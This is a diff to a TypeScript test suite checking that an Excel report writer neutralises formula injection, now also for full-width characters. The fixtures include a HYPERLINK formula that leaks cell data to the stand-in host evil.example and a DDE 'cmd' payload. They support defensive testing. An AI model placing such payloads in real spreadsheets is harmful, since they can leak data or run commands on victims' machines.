@@ -60,6 +60,8 @@ async function load(buffer: Buffer): Promise<ExcelJS.Workbook> {
 }
 
 const FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tTAB", "\rCR"];
+/** The full-width forms Excel also takes as a formula start (U+FF1D, U+FF0B, U+FF0D, U+FF20). */
+const FULL_WIDTH_FORMULAS = ["＝1+1", "＋1", "－2", "＠SUM(A1)"];
 
 const detailColumns: ReportColumn[] = [
   { key: "projectId", header: "Project", kind: "text", width: 14 },
@@ -139,6 +141,9 @@ function sampleReport(overrides: Partial<ExcelReport> = {}): ExcelReport {
 describe("excel report: isFormulaLike", () => {
   it("flags text a spreadsheet would read as a formula", () => {
     for (const text of FORMULA_LIKE) assert.equal(isFormulaLike(text), true, JSON.stringify(text));
+    for (const text of FULL_WIDTH_FORMULAS) assert.equal(isFormulaLike(text), true, JSON.stringify(text));
+    for (const text of ["1＝1", " ＝1", "Ｆ＝1", "\uff1e1"])
+      assert.equal(isFormulaLike(text), false, JSON.stringify(text));
     for (const text of ["", "PRJ-1", " =1+1", "1-2", "a@b.c", "'=1"])
       assert.equal(isFormulaLike(text), false, JSON.stringify(text));
   });
@@ -416,6 +421,51 @@ describe("excel report: streaming and failures", () => {
     );
     assert.equal(output.buffer().length, 0);
     assert.equal(output.stream.destroyed, false);
+  });
+});
+
+describe("excel report: full-width formula characters", async () => {
+  const output = collector();
+  await writeExcelReport(
+    sampleReport({
+      subtitle: ["＝cmd|' /C calc'!A0"],
+      details: {
+        name: "Details",
+        columns: detailColumns,
+        rows: FULL_WIDTH_FORMULAS.map((text, i) => ({
+          projectId: `PRJ-FW${i}`,
+          amount: "1.00",
+          billingDate: "2026-01-31",
+          quantity: "1",
+          description: text,
+          share: "1",
+          hours: "1",
+        })),
+      },
+    }),
+    output.stream,
+  );
+  const file = output.buffer();
+  const workbook = await load(file);
+
+  it("neutralises ＝ ＋ － ＠ at the start of a cell like their ASCII forms: Text format, quotePrefix, value kept", () => {
+    const details = workbook.getWorksheet("Details")!;
+    const xml = zipEntry(file, "xl/worksheets/sheet2.xml");
+    const xfs = [
+      ...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(zipEntry(file, "xl/styles.xml"))?.[1] ?? "").matchAll(/<xf [^>]*>/g),
+    ].map((m) => m[0]);
+    FULL_WIDTH_FORMULAS.forEach((text, i) => {
+      const cell = details.getCell(`E${i + 2}`);
+      assert.equal(cell.value, text);
+      assert.equal(cell.type, ExcelJS.ValueType.String);
+      assert.equal(cell.numFmt, "@", text);
+      const styleId = new RegExp(`<c r="E${i + 2}" s="(\\d+)" t="str">`).exec(xml)?.[1];
+      assert.match(xfs[Number(styleId)]!, /quotePrefix="1"/, text);
+    });
+    const subtitle = workbook.getWorksheet("Summary")!.getCell("A2");
+    assert.equal(subtitle.value, "＝cmd|' /C calc'!A0");
+    assert.equal(subtitle.numFmt, "@");
+    assert.equal(details.getCell("A2").numFmt, undefined, "ordinary text stays General");
   });
 });
 
